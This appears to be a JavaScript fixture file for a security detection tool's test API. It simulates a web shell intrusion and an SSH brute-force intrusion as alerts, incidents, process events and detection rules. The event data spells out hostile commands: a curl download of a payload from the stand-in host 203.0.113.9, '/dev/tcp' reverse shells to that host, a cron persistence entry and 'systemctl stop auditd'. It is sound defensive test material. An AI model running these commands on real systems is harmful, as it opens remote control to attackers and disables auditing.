// Fixture data of detection for the fake API, telling two stories:
//
//  - web-01, the OA server: a web shell uploaded through the OA web
//    application and run by PHP-FPM, a downloaded "ops tool" (kworker)
//    calling back to 203.0.113.9:4444, a reverse shell, a cron entry,
//    PwnKit to root and auditd stopped, then the tool probing the database
//    network (one incident, open);
//  - db-01: password guessing over SSH from 198.51.100.7 that worked,
//    followed by a reverse shell (one incident, investigating, assigned);
//
// and an older crontab change on web-02 (a resolved incident). The events
// are the hosts' events around the alerts, as the timeline reads them;
// every alert's rule is a shipped rule of fixtures-rules.mjs. Also the
// exceptions (one expired) and the imported rule files (one with a rule
// that does not load). Times are relative to the moment the fixtures are
// made.

const minute = 60_000;
const web01 = '7f1c2a9e-0001';
const web02 = '7f1c2a9e-0002';
const db01 = '7f1c2a9e-0003';
const hostIds = { [web01]: 'c2a1f0e84d6b4e1f9a1b7d3c5e2f0a11', [web02]: 'c2a1f0e84d6b4e1f9a1b7d3c5e2f0a12', [db01]: 'e9d04c2b7a1f4c6d8b3e5f7a9c1d3e20' };
const hostnames = { [web01]: 'web-01', [web02]: 'web-02', [db01]: 'db-01' };

/** The rules the alerts come from (ids of the shipped rules). */
export const ruleIds = {
  webshellWritten: '133ac488-1031-4c2d-9d30-45d684818119',
  webshellChild: '3110b6db-05fd-424f-b5a5-541247547866',
  reverseShellDevTcp: '4cae566c-4121-439f-bea6-b8c586baa5c4',
  shellOutbound: 'c504857a-aad3-4c96-89c9-277455d793a5',
  cronSuspicious: '2002acc7-afeb-454f-a155-78ea9c53c81a',
  cronAdded: 'a6179c08-ee9e-4316-b1bb-20e6278262df',
  pkexecEmptyArgv: 'ac38af97-5261-4822-9677-43d6ea57bc5a',
  auditDisabled: 'c6ffb546-d3c4-40b4-a360-16162861259f',
  passwordGuessing: '218f6ba4-254a-4707-81b9-363fd4db9a7d',
  manyAccounts: '6ea19978-5617-462d-9bb0-1bf23e4e34c0',
  miningPoolPort: '34c53a19-96f5-40fa-b943-1b67b4e601b7',
};

/** @param {number} t */
function iso(t) {
  return new Date(t).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

/** The attacker's call-back address and the web shell's path, as the UI tests look for them. */
export const story = {
  c2: '203.0.113.9',
  webshell: '/var/www/oa/upload/avatar.php',
  tool: '/tmp/.ops/kworker',
  guesser: '198.51.100.7',
};

/**
 * makeDetection builds the alerts, incidents, events, exceptions and
 * imported rule files of the stories.
 * @param {number} now
 */
export function makeDetection(now) {
  let seq = 0;
  /** proc describes a process as events carry it. */
  const proc = (agent, pid, minutesAgo, exe, args, user, parent) => {
    const start = iso(now - minutesAgo * minute);
    const p = {
      pid,
      entity_id: `${agent.slice(-4)}-${pid}-${Math.floor((now - minutesAgo * minute) / 1000)}`,
      name: exe.split('/').pop(),
      executable: exe,
      args,
      args_count: args.length,
      command_line: args.join(' '),
      start,
      user: { name: user, id: user === 'root' ? '0' : user === 'www-data' ? '33' : '1000' },
      parent,
    };
    return p;
  };
  const processFields = (p) => {
    const out = {
      pid: p.pid,
      entity_id: p.entity_id,
      name: p.name,
      executable: p.executable,
      args: p.args,
      args_count: p.args_count,
      command_line: p.command_line,
      start: p.start,
      user: p.user,
    };
    if (p.parent) {
      out.parent = { pid: p.parent.pid, entity_id: p.parent.entity_id, name: p.parent.name, executable: p.parent.executable, command_line: p.parent.command_line };
      const ancestry = [];
      for (let a = p.parent; a && ancestry.length < 10; a = a.parent) ancestry.push({ entity_id: a.entity_id, pid: a.pid, name: a.name, executable: a.executable });
      out.ancestry = ancestry;
    }
    return out;
  };
  /** ev makes one event of agent, minutesAgo (fractions allowed), in category and action. */
  const ev = (agent, minutesAgo, category, action, fields = {}, p = null) => {
    seq++;
    const doc = {
      '@timestamp': iso(now - minutesAgo * minute),
      agent: { id: agent, version: '0.3.0' },
      host: { id: hostIds[agent], name: hostnames[agent] },
      ...fields,
    };
    doc.event = { id: `dev-${String(seq).padStart(4, '0')}`, kind: 'event', category, action, ...(fields.event ?? {}) };
    if (p) {
      doc.process = { ...processFields(p), ...(fields.process ?? {}) };
      doc.user = { name: p.user.name, id: p.user.id, ...(fields.user ?? {}) };
    }
    return doc;
  };
  const exec = (agent, minutesAgo, p, extra = {}) => ev(agent, minutesAgo, 'process', 'exec', extra, p);

  // ---- web-01: the OA server ----
  const master = proc(web01, 2200, 9 * 24 * 60, '/usr/sbin/php-fpm8.2', ['php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)'], 'root', null);
  const fpm = proc(web01, 2210, 3 * 24 * 60, '/usr/sbin/php-fpm8.2', ['php-fpm: pool www'], 'www-data', master);
  const sh1 = proc(web01, 31001, 31, '/usr/bin/dash', ['sh', '-c', 'id;uname -a'], 'www-data', fpm);
  const id1 = proc(web01, 31002, 31, '/usr/bin/id', ['id'], 'www-data', sh1);
  const uname1 = proc(web01, 31003, 31, '/usr/bin/uname', ['uname', '-a'], 'www-data', sh1);
  const sh2 = proc(web01, 31010, 29, '/usr/bin/dash', ['sh', '-c', `curl -fsSL http://${story.c2}/ops-tool -o ${story.tool}`], 'www-data', fpm);
  const curl = proc(web01, 31011, 29, '/usr/bin/curl', ['curl', '-fsSL', `http://${story.c2}/ops-tool`, '-o', story.tool], 'www-data', sh2);
  const sh3 = proc(web01, 31020, 28, '/usr/bin/dash', ['sh', '-c', `chmod +x ${story.tool} && ${story.tool} -c ${story.c2}:4444`], 'www-data', fpm);
  const chmod = proc(web01, 31021, 28, '/usr/bin/chmod', ['chmod', '+x', story.tool], 'www-data', sh3);
  const tool = proc(web01, 31022, 28, story.tool, [story.tool, '-c', `${story.c2}:4444`], 'www-data', sh3);
  const sh4 = proc(web01, 31030, 27, '/usr/bin/dash', ['sh', '-c', `bash -i >& /dev/tcp/${story.c2}/4444 0>&1`], 'www-data', tool);
  const bash = proc(web01, 31031, 27, '/usr/bin/bash', ['bash', '-i'], 'www-data', sh4);
  const crontab = proc(web01, 31040, 24, '/usr/bin/crontab', ['crontab', '-'], 'www-data', bash);
  const pkexec = proc(web01, 31050, 20, '/usr/bin/pkexec', [], 'root', bash);
  const rootsh = proc(web01, 31051, 20, '/usr/bin/bash', ['bash', '-p'], 'root', pkexec);
  const systemctl = proc(web01, 31060, 4, '/usr/bin/systemctl', ['systemctl', 'stop', 'auditd'], 'root', rootsh);
  const socket = (remote, port) => [
    { fd: 0, type: 'socket', transport: 'tcp', local: `10.0.1.11:${port}`, remote: `${remote}:4444` },
    { fd: 1, type: 'socket', transport: 'tcp', local: `10.0.1.11:${port}`, remote: `${remote}:4444` },
    { fd: 2, type: 'socket', transport: 'tcp', local: `10.0.1.11:${port}`, remote: `${remote}:4444` },
  ];
  const connect = (agent, minutesAgo, p, ip, port, sport) =>
    ev(agent, minutesAgo, 'network', 'connection-attempted', {
      source: { ip: '10.0.1.11', port: sport },
      destination: { ip, port },
      network: { transport: 'tcp', type: 'ipv4', direction: 'egress' },
      event: { outcome: 'success' },
    }, p);
  const file = (agent, minutesAgo, p, action, path, extra = {}) =>
    ev(agent, minutesAgo, 'file', action, { file: { path, name: path.split('/').pop(), directory: path.slice(0, path.lastIndexOf('/')), type: 'file', ...extra } }, p);

  const w = {
    upload: file(web01, 34, fpm, 'file-created', story.webshell, { size: 1184, hash: { sha256: '9f2d7c1b0e4a6f8d3c5b7a9e1f0d2c4b6a8e0f1d3c5b7a9e2f4d6c8b0a1e3f5d' } }),
    sh1: exec(web01, 31, sh1),
    id1: exec(web01, 30.98, id1),
    uname1: exec(web01, 30.97, uname1),
    sh2: exec(web01, 29, sh2),
    curl: exec(web01, 28.99, curl),
    curlConnect: connect(web01, 28.98, curl, story.c2, 80, 51200),
    toolFile: file(web01, 28.9, curl, 'file-created', story.tool, { size: 2_310_144, mode: '0644' }),
    sh3: exec(web01, 28, sh3),
    chmod: exec(web01, 27.99, chmod),
    toolMode: file(web01, 27.98, chmod, 'file-attributes-changed', story.tool, { mode: '0755' }),
    tool: exec(web01, 27.97, tool),
    toolConnect: connect(web01, 27.9, tool, story.c2, 4444, 51234),
    sh4: exec(web01, 27, sh4),
    bash: exec(web01, 26.99, bash, { process: { stdio: socket(story.c2, 51240) } }),
    bashConnect: connect(web01, 26.98, bash, story.c2, 4444, 51240),
    crontab: exec(web01, 24, crontab),
    cron: ev(web01, 23.99, 'file', 'file-modified', { file: { path: '/var/spool/cron/crontabs/www-data', name: 'www-data', directory: '/var/spool/cron/crontabs', type: 'file' }, vigil: { persistence: { mechanism: 'cron', command: `${story.tool} -c ${story.c2}:4444`, schedule: '*/5 * * * *' } } }, crontab),
    scanDb: connect(web01, 22, tool, '10.0.2.20', 3306, 51300),
    scanSsh: connect(web01, 21.9, tool, '10.0.2.21', 22, 51301),
    pkexec: exec(web01, 20, pkexec, { process: { args_count: 0, command_line: '' } }),
    rootsh: exec(web01, 19.99, rootsh),
    systemctl: exec(web01, 4, systemctl),
  };

  // ---- db-01: password guessing, then a reverse shell ----
  const sshd = proc(db01, 812, 40 * 24 * 60, '/usr/sbin/sshd', ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'], 'root', null);
  const tries = [];
  const users = ['root', 'admin', 'oracle', 'postgres', 'root', 'root', 'admin', 'root', 'postgres', 'root', 'root', 'oracle'];
  users.forEach((u, i) => {
    tries.push(
      ev(db01, 58 - i * 0.3, 'authentication', 'login-failed', {
        user: { name: u },
        source: { ip: story.guesser, port: 40100 + i },
        event: { outcome: 'failure', reason: 'wrong password' },
        vigil: { auth: { service: 'sshd', method: 'password' } },
        message: `Failed password for ${u} from ${story.guesser} port ${40100 + i} ssh2`,
      }, sshd),
    );
  });
  const login = ev(db01, 54, 'authentication', 'logged-in', {
    user: { name: 'root' },
    source: { ip: story.guesser, port: 40150 },
    event: { outcome: 'success' },
    vigil: { auth: { service: 'sshd', method: 'password' } },
    message: `Accepted password for root from ${story.guesser} port 40150 ssh2`,
  }, sshd);
  const dbsh = proc(db01, 9120, 53, '/usr/bin/bash', ['-bash'], 'root', sshd);
  const dbrev = proc(db01, 9150, 50, '/usr/bin/bash', ['bash', '-c', `bash -i >& /dev/tcp/${story.c2}/4444 0>&1`], 'root', dbsh);
  const d = {
    tries,
    login,
    shell: exec(db01, 53, dbsh),
    rev: exec(db01, 50, dbrev),
    revConnect: ev(db01, 49.99, 'network', 'connection-attempted', { source: { ip: '10.0.2.20', port: 49870 }, destination: { ip: story.c2, port: 4444 }, network: { transport: 'tcp', type: 'ipv4', direction: 'egress' } }, dbrev),
  };

  // ---- web-02: a crontab change, resolved long ago ----
  const deploy = proc(web02, 7710, 26 * 60, '/usr/bin/crontab', ['crontab', '/home/deploy/deploy.cron'], 'deploy', null);
  const w2 = {
    crontab: exec(web02, 26 * 60, deploy),
    cron: ev(web02, 26 * 60 - 0.01, 'file', 'file-modified', { file: { path: '/var/spool/cron/crontabs/deploy', name: 'deploy', directory: '/var/spool/cron/crontabs', type: 'file' } }, deploy),
  };

  const rules = {
    [ruleIds.webshellWritten]: { title: 'Web server process wrote a script into a web root', level: 'high', techniques: ['T1505.003', 'T1190'], file: 'linux/file_event/webshell_written_by_web_server.yml' },
    [ruleIds.webshellChild]: { title: 'Web server process starts a shell or reconnaissance tool', level: 'high', techniques: ['T1505.003', 'T1190', 'T1059.004', 'T1033', 'T1082'], file: 'linux/process_creation/webshell_child_process.yml' },
    [ruleIds.reverseShellDevTcp]: { title: 'Shell redirected to a /dev/tcp or /dev/udp connection', level: 'critical', techniques: ['T1059.004', 'T1095'], file: 'linux/process_creation/reverse_shell_dev_tcp.yml' },
    [ruleIds.shellOutbound]: { title: 'Shell process connects to a public address', level: 'high', techniques: ['T1059.004', 'T1095'], file: 'linux/network_connection/shell_outbound_connection.yml' },
    [ruleIds.cronSuspicious]: { title: 'Cron job with a suspicious command', level: 'high', techniques: ['T1053.003'], file: 'linux/persistence/cron_suspicious_entry.yml' },
    [ruleIds.cronAdded]: { title: 'Cron job added or changed', level: 'low', techniques: ['T1053.003'], file: 'linux/persistence/cron_entry_added.yml' },
    [ruleIds.pkexecEmptyArgv]: { title: 'Pkexec started with an empty argument list (PwnKit, CVE-2021-4034)', level: 'critical', techniques: ['T1068'], file: 'linux/process_creation/pkexec_empty_argv.yml' },
    [ruleIds.auditDisabled]: { title: 'Linux audit disabled or its rules deleted', level: 'high', techniques: ['T1562.012'], file: 'linux/process_creation/audit_disabled.yml' },
    [ruleIds.passwordGuessing]: { title: 'Password guessing against one host from one source', level: 'medium', techniques: ['T1110.001'], file: 'linux/authlog/login_brute_force.yml', kind: 'correlation' },
    [ruleIds.manyAccounts]: { title: 'Many accounts tried from one source', level: 'medium', techniques: ['T1110.003', 'T1110.004'], file: 'linux/authlog/login_brute_force.yml', kind: 'correlation' },
  };
  const severity = (level) => (level === 'critical' || level === 'high' || level === 'medium' ? level : 'low');

  /**
   * alert makes an alert of a rule from its event (or a correlation's
   * events), in an incident.
   */
  const alert = (id, ruleId, incidentId, event, over = {}) => {
    const r = rules[ruleId];
    const agent = event.agent.id;
    const at = event['@timestamp'];
    const a = {
      id,
      agent_id: agent,
      hostname: hostnames[agent],
      rule_id: ruleId,
      title: r.title,
      severity: severity(r.level),
      state: 'new',
      techniques: r.techniques,
      dedup_key: `${ruleId}|${agent}|${event.process?.executable ?? event.file?.path ?? ''}<${event.process?.parent?.executable ?? ''}`,
      count: 1,
      created_at: at,
      updated_at: at,
      last_seen: at,
      evidence: { rule: { kind: r.kind ?? 'detection', level: r.level, status: 'test', source: 'builtin', file: r.file, line: 1 }, event },
      event_ids: [event.event.id],
      comments: [],
      incident_id: incidentId,
      ...over,
    };
    return a;
  };

  const alerts = [
    alert('al-0001', ruleIds.auditDisabled, 'inc-0001', w.systemctl, {
      description: 'The Linux audit daemon was stopped, disabled or had its rules deleted: auditctl -D, auditctl -e 0, or systemctl stop/disable/mask of auditd.',
    }),
    alert('al-0106', ruleIds.pkexecEmptyArgv, 'inc-0001', w.pkexec),
    alert('al-0105', ruleIds.cronSuspicious, 'inc-0001', w.cron),
    alert('al-0104', ruleIds.shellOutbound, 'inc-0001', w.bashConnect),
    alert('al-0103', ruleIds.reverseShellDevTcp, 'inc-0001', w.sh4),
    alert('al-0102', ruleIds.webshellChild, 'inc-0001', w.sh1, {
      state: 'acknowledged',
      count: 3,
      last_seen: w.sh3['@timestamp'],
      updated_at: iso(now - 25 * minute),
      comments: [{ at: iso(now - 25 * minute), author: 'alice', state: 'acknowledged', text: 'OA upload servlet; the web shell is avatar.php. Isolating the host next.' }],
    }),
    alert('al-0101', ruleIds.webshellWritten, 'inc-0001', w.upload),
    alert('al-0002', ruleIds.reverseShellDevTcp, 'inc-0002', d.rev, {
      state: 'acknowledged',
      count: 3,
      last_seen: iso(now - 20 * minute),
      updated_at: iso(now - 30 * minute),
      comments: [{ at: iso(now - 30 * minute), author: 'alice', state: 'acknowledged', text: 'Looking at it with the DB team.' }],
    }),
    alert('al-0004', ruleIds.passwordGuessing, 'inc-0002', tries[tries.length - 1], {
      evidence: {
        rule: { kind: 'correlation', level: 'medium', status: 'test', source: 'builtin', file: 'linux/authlog/login_brute_force.yml', line: 86 },
        event: tries[tries.length - 1],
        correlation: { type: 'event_count', group: { 'host.id': hostIds[db01], 'source.ip': story.guesser }, count: 12, first: tries[0]['@timestamp'], last: tries[tries.length - 1]['@timestamp'], timespan: '5m0s' },
      },
      event_ids: tries.map((e) => e.event.id),
      dedup_key: `${ruleIds.passwordGuessing}|${db01}|host.id=${hostIds[db01]},source.ip=${story.guesser}`,
    }),
    alert('al-0005', ruleIds.manyAccounts, 'inc-0002', tries[8], {
      evidence: {
        rule: { kind: 'correlation', level: 'medium', status: 'test', source: 'builtin', file: 'linux/authlog/login_brute_force.yml', line: 206 },
        correlation: { type: 'value_count', group: { 'host.id': hostIds[db01], 'source.ip': story.guesser }, count: 4, values: ['admin', 'oracle', 'postgres', 'root'], first: tries[0]['@timestamp'], last: tries[8]['@timestamp'], timespan: '1h0m0s' },
      },
      event_ids: tries.slice(0, 9).map((e) => e.event.id),
      dedup_key: `${ruleIds.manyAccounts}|${db01}|host.id=${hostIds[db01]},source.ip=${story.guesser}`,
    }),
    alert('al-0003', ruleIds.cronAdded, 'inc-0003', w2.cron, {
      state: 'resolved',
      updated_at: iso(now - 25 * 60 * minute),
      comments: [{ at: iso(now - 25 * 60 * minute), author: 'bob', state: 'resolved', text: 'Planned change CHG-1182.' }],
    }),
  ].sort((a, b) => Date.parse(b.created_at) - Date.parse(a.created_at));

  const entity = (kind, value) => ({ kind, value });
  const incidents = [
    {
      id: 'inc-0001',
      title: `Web server process wrote a script into a web root — web-01`,
      state: 'open',
      entities: [
        entity('process', fpm.entity_id),
        entity('file', `${web01}:${story.webshell}`),
        entity('process', sh1.entity_id),
        entity('process', tool.entity_id),
        entity('ip', story.c2),
        entity('user', `www-data@${web01}`),
        entity('file', `${web01}:/var/spool/cron/crontabs/www-data`),
        entity('process', rootsh.entity_id),
      ],
      created_at: w.upload['@timestamp'],
      comments: [],
    },
    {
      id: 'inc-0002',
      title: 'Password guessing against one host from one source — db-01',
      state: 'investigating',
      assignee: 'alice',
      entities: [entity('ip', story.guesser), entity('user', `root@${db01}`), entity('process', dbrev.entity_id), entity('ip', story.c2)],
      created_at: tries[tries.length - 1]['@timestamp'],
      comments: [{ at: iso(now - 30 * minute), author: 'alice', state: 'investigating', text: 'Root logged in from the guessing address; the DB team is rotating the password.' }],
    },
    {
      id: 'inc-0003',
      title: 'Cron job added or changed — web-02',
      state: 'resolved',
      assignee: 'bob',
      entities: [entity('file', `${web02}:/var/spool/cron/crontabs/deploy`), entity('process', deploy.entity_id)],
      created_at: w2.cron['@timestamp'],
      comments: [{ at: iso(now - 25 * 60 * minute), author: 'bob', state: 'resolved', text: 'Planned change CHG-1182.' }],
    },
  ];

  const events = {
    'inc-0001': Object.values(w),
    'inc-0002': [...d.tries, d.login, d.shell, d.rev, d.revConnect],
    'inc-0003': Object.values(w2),
  };

  const exceptions = [
    {
      id: 'ex-0003',
      rule_id: ruleIds.miningPoolPort,
      agent_id: '7f1c2a9e-0004',
      match: { 'destination.port': ['3333'], 'process.executable': ['/opt/loadtest/bin/*'] },
      reason: 'Load test of the pool proxy, ticket OPS-311 (ended)',
      author: 'bob',
      expires_at: iso(now - 3 * 24 * 60 * minute),
      created_at: iso(now - 12 * 24 * 60 * minute),
      updated_at: iso(now - 12 * 24 * 60 * minute),
      hits: 12,
      last_hit: iso(now - 4 * 24 * 60 * minute),
    },
    {
      id: 'ex-0002',
      rule_id: ruleIds.cronAdded,
      match: { 'user.name': ['deploy'], 'file.path': ['/var/spool/cron/crontabs/deploy'] },
      reason: 'The deploy tool rewrites its crontab at every release',
      author: 'alice',
      expires_at: iso(now + 20 * 24 * 60 * minute),
      created_at: iso(now - 20 * 24 * 60 * minute),
      updated_at: iso(now - 20 * 24 * 60 * minute),
      hits: 3,
      last_hit: iso(now - 2 * 24 * 60 * minute),
    },
    {
      id: 'ex-0001',
      rule_id: ruleIds.webshellChild,
      agent_id: web02,
      match: { 'process.parent.command_line': ['*zabbix_agentd*'], 'process.command_line': ['sh -c uname -a'] },
      reason: 'Zabbix runs uname through the PHP status page (CHG-1093)',
      author: 'alice',
      created_at: iso(now - 40 * 24 * 60 * minute),
      updated_at: iso(now - 30 * 24 * 60 * minute),
      hits: 41,
      last_hit: iso(now - 2 * 60 * minute),
    },
  ];

  const ruleFiles = [
    {
      name: 'custom/oa_upload_exploit.yml',
      author: 'alice',
      created_at: iso(now - 6 * 24 * 60 * minute),
      updated_at: iso(now - 6 * 24 * 60 * minute),
      content: [
        'title: OA upload servlet writes a script',
        'id: 5d0f3c1e-8a2b-4c6d-9e7f-0a1b2c3d4e5f',
        'status: experimental',
        'description: The OA system stores uploads under /var/www/oa/upload; only images and documents belong there.',
        'author: SOC',
        'tags:',
        '  - attack.initial-access',
        '  - attack.t1190',
        '  - attack.persistence',
        '  - attack.t1505.003',
        'logsource:',
        '  product: linux',
        '  category: file_event',
        'detection:',
        '  upload_dir:',
        '    file.path|startswith: /var/www/oa/upload/',
        '  script:',
        '    file.path|endswith:',
        '      - .php',
        '      - .jsp',
        '      - .phtml',
        '  condition: upload_dir and script',
        'falsepositives:',
        '  - None known',
        'level: high',
        '',
      ].join('\n'),
    },
    {
      name: 'custom/legacy_ssh.yml',
      author: 'bob',
      created_at: iso(now - 30 * 24 * 60 * minute),
      updated_at: iso(now - 9 * 24 * 60 * minute),
      content: [
        'title: SSH login by a decommissioned service account',
        'id: 0e4b2a6c-1d3f-4a5b-8c7d-9e0f1a2b3c4d',
        'status: test',
        'author: SOC',
        'tags:',
        '  - attack.initial-access',
        '  - attack.t1078',
        'logsource:',
        '  product: linux',
        '  service: authlog',
        'detection:',
        '  selection:',
        '    event.action: logged-in',
        '    user.name:',
        '      - svc_backup',
        '      - svc_report',
        '  condition: selection',
        'level: medium',
        '---',
        'title: Encoded command in a login shell',
        'id: 7a9c1e3b-5d7f-4b2a-9c8e-1f3a5b7c9d0e',
        'status: experimental',
        'tags:',
        '  - attack.execution',
        '  - attack.t1059.004',
        'logsource:',
        '  product: linux',
        '  category: process_creation',
        'detection:',
        '  selection:',
        '    process.command_line|base64offset2|contains: curl',
        '  condition: selection',
        'level: high',
        '',
      ].join('\n'),
    },
  ];

  return { alerts, incidents, events, exceptions, ruleFiles, hostnames };
}
